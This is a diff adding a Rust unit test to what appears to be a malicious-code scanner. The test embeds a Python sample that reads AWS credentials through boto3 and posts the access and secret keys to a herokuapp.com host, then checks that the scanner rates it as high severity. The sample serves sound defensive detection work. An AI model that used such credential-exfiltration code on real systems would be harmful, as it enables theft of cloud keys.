@@ -329,6 +329,13 @@ mod tests {
     }
 
     #[test]
+    fn cloud_sdk_credentials_sent_to_a_free_app_host_are_exfiltration() {
+        // fabrice: boto3's resolved keys posted to a herokuapp host.
+        let code = "import boto3, requests\ndef connect():\n    cd = boto3.Session().get_credentials()\n    requests.post('https://x.herokuapp.com/zz', json={'k': cd.access_key, 's': cd.secret_key})\n";
+        assert!(max_severity("p/pkg/connection.py", code, "WH200") >= 0.6);
+    }
+
+    #[test]
     fn unrelated_data_does_not_flow() {
         let code =
             "import requests\nx = 'hello'\nrequests.post('https://example.invalid', data=x)\n";
